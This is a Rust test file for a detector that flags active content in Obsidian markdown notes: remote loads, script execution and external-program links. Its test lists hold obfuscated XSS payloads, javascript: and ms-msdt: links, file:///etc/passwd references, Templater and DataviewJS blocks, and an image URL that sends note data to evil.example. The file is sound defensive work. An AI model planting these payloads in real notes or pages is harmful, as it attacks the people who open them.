use super::Effect::{self, Loads, Opens, Runs};
use super::active_parts;

/// What `note` does, each once.
fn effects(note: &str) -> Vec<Effect> {
    let mut effects: Vec<_> = active_parts(note).iter().map(|part| part.effect).collect();
    effects.sort_unstable();
    effects.dedup();
    effects
}

#[test]
fn what_loads_is_found() {
    for note in [
        "![](https://evil.example/x.png)",
        "text ![a b|100](<http://evil.example/x y.png> \"t\") text",
        "![a\nb](\nhttps://evil.example)",
        "[![](https://evil.example)](https://example.com)",
        "![](//evil.example/x)",
        r"![](\\evil.example\x)",
        r"![](https\://evil.example)",
        "![](ht&#116;ps://evil.example)",
        "![](https&colon;//evil.example)",
        "![](HTTPS:evil.example)",
        "![](file:///etc/passwd)",
        "![a][b]\n\n[b]: https://evil.example",
        "![B  c][]\n\n> [b C]: <https://evil.example> \"t\"",
        "![b]\n[b]:\n  https://evil.example",
        "$5 ![a `[` b](https://evil.example)",
        "$5 ![a `]` b](https://evil.example)",
        "| a | ![](https://evil.example) |",
        "> [!note] ![](https://evil.example)",
        "- ![](https://evil.example)",
        "    ![](https://evil.example)",
        "<img src=https://evil.example>",
        "<IMG\n  SRC = \"//evil.example\">",
        "<img title=\"`\" src=\"https://evil.example\" alt=\"`\">",
        "<img srcset=\"a.png 1x, //evil.example 2x\">",
        "<video src='https://evil.example'></video>",
        "<video poster=\"https://evil.example\">",
        "<audio><source src=https://evil.example></audio>",
        "<iframe src=\"a.html\"></iframe>",
        "<object data=\"https://evil.example\"></object>",
        "<embed src=a>",
        "<link rel=stylesheet href=https://evil.example>",
        "<style>@import 'https://evil.example';</style>",
        "<div style=\"background:url(https://evil.example)\">",
        "<div style='background:u\\72l(//evil.example)'>",
        "<svg><image href=\"https://evil.example\"/></svg>",
        "<svg><rect fill=\"url(//evil.example#a)\"/></svg>",
        "<div>\n```\n<img src=https://evil.example>\n```\n</div>",
        "<meta http-equiv=refresh content=0>",
        "<form action=https://evil.example>",
        "a ` b\n\n<img src=https://evil.example> `",
        "```leaflet\nimage: https://evil.example\n```",
        "```dataview\nTABLE \"![](https://evil.example)\"\n```",
        "```ad-note\n![](https://evil.example)\n```",
        "```mermaid\nA@{ img: \"https://evil.example\" }\n```",
        "`= \"<img src=https://evil.example?\" + this.a + \">\"`",
        "$\\includegraphics{https://evil.example}$",
        "---\nbanner: ![](https://evil.example)\n---\n",
    ] {
        assert!(effects(note).contains(&Loads), "{note}: {:?}", active_parts(note));
    }
}

#[test]
fn what_runs_is_found() {
    for note in [
        "<img src=x onerror=alert(1)>",
        "<img title=\">\" onerror=alert(1)>",
        "<a \"<img title=\">\" onerror=alert(1)>",
        "<a \" <img title=\"<b\" t=\">\" onerror=x>",
        "<svg/onload=alert(1)>",
        "<b\nONCLICK\n=\n'x'>",
        "<script>alert(1)</script>",
        "<SCRIPT src=a.js>",
        "<iframe srcdoc='<b>'>",
        "<a href=\"java&#115;cript:alert(1)\">",
        "<a href=\"java\tscript:alert(1)\">",
        &format!("[a](java{}script:alert(1))", "&#9;".repeat(500)),
        "[a](javascript:alert(1))",
        "[a](JaVaScRiPt&colon;alert(1))",
        "[a][b]\n\n[b]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "$\\href{javascript:alert(1)}{x}$",
        "```dataviewjs\ndv.paragraph(1)\n```",
        "> ```dataviewjs\n> dv.paragraph(1)\n> ```",
        "- ```DataviewJS\n  x\n  ```",
        "~~~ dataviewjs title\nx\n~~~",
        "```data&#118;iewjs\nx\n```",
        "```{.dataviewjs}\nx\n```",
        "```js\nx\n```\n```dataviewjs\nx\n```",
        "```js-engine\nx\n```",
        "```datacorejsx\nx\n```",
        "```meta-bind-button\nlabel: a\n```",
        "```button\nname a\n```",
        "```jsx:component:A\nx\n```",
        "```tasks\nfilter by function task.x\n```",
        "`$= dv.current()`",
        "a ``$=x`` b",
        "> `$= x`",
        "$5 `$= x`",
        "`BUTTON[a]` `button-save`",
        "<% tp.date.now() %>",
        "<%* await x() %>",
        "---\na: <% tp.x %>\n---\n",
        "```js\n<%* x() %>\n```",
        "> ```js\n> x\n\n<script>x</script>",
        "- ```js\n  x\n\n<script>x</script>",
        "`<% tp.file.title %>`",
        "%% <%* x %> %%",
        "<%* never closed",
    ] {
        assert!(effects(note).contains(&Runs), "{note}: {:?}", active_parts(note));
    }
}

#[test]
fn links_that_make_a_program_act_are_found() {
    for note in [
        "obsidian://open?vault=a",
        "[a](OBSIDIAN://open)",
        "[a](<obsidian:open>)",
        "[a](obsidian&colon;//open)",
        "<obsidian://open>",
        "<a href='obsidian://open'>",
        "[a][b]\n\n[b]: obsidian://open",
        "---\nlink: obsidian://open\n---\n",
        "[a](data:text/html,x)",
        "[a](file:///a.exe)",
        "[a](ms-msdt:x)",
        "[a](obsidian&#0000058;//x)",
    ] {
        assert!(effects(note).contains(&Opens), "{note}: {:?}", active_parts(note));
    }
}

#[test]
fn what_is_only_shown_or_stays_in_the_vault_is_not() {
    for note in [
        "# A note\n\nText with [a link](https://example.com), <https://example.com>, https://example.com and [[Note]].",
        "![[picture.png]] ![[Note#Part|200]] and [x](https://example.com)",
        "![](picture.png) ![a](../b%20c.png \"t\") and [x](https://example.com)",
        "![](data:image/png;base64,AAAA)",
        "```js\n// dataviewjs\n<img src=https://example.com onerror=x>\n```",
        "```\n![](https://example.com)\n<script>x</script>\n```",
        "````md\n```dataviewjs\ndv.x()\n```\n````",
        "~~~html\n<iframe src=x></iframe>\n~~~",
        "> ```html\n> <script>x</script>\n> ```",
        "Use `![](https://example.com)` and `<img onerror=x>` or `obsidian://open`.",
        "JavaScript: the good parts. Obsidian: a vault. Data: none.",
        r"\![](https://example.com)",
        "a < b, c > d, 1 <2 and x = y, online = yes",
        "<b>bold</b> <br> <kbd>Ctrl</kbd> <span class=\"a\">x</span> <div style=\"color: red\">x</div>",
        "<a href=\"https://example.com\">x</a> <img src=\"a.png\" width=\"100\">",
        "`x` = `y // z`",
        "- [ ] a task\n- [x] done [[A]] #tag ^id",
        "```mermaid\ngraph TD\nA --> B\n```",
        "```dataview\nTABLE file.name FROM #a\n```",
        "```tasks\nnot done\nsort by due\n```",
        "```query\ntag:#a\n```",
        "$a < b$ and $$\\frac{1}{2}$$",
        "[zotero](zotero://select/items/1) [mail](mailto:a@b.c) [tel](tel:123)",
        "```erb\n<%= x %>\n```",
        "[^1]: https://example.com",
        "[b]: https://example.com\n\n[a][b]",
        "- a\n  ```html\n  <script>x</script>\n  ```\n- b",
        "```erb\n<%= x %>\n```\n\n> ````\n> ```dataviewjs\n> ````",
    ] {
        assert_eq!(active_parts(note), [], "{note}");
    }
}

#[test]
fn a_part_has_all_that_tells_it_from_others() {
    let texts = |note| active_parts(note).into_iter().map(|part| part.text.to_owned()).collect::<Vec<_>>();
    assert_eq!(texts("a ![x](https://a.b/c \"t\") d"), ["![x](https://a.b/c"]);
    assert_eq!(texts("a\n```dataviewjs\nx\ny\n```\nb"), ["```dataviewjs\nx\ny\n```\n"]);
    assert_eq!(texts("<script>a</script>b"), ["<script>a"]);
    assert_eq!(texts("é <%* é %> é"), ["<%* é %>"]);
    assert_eq!(texts("<img src=x onerror='é'>"), ["onerror='é"]);
}
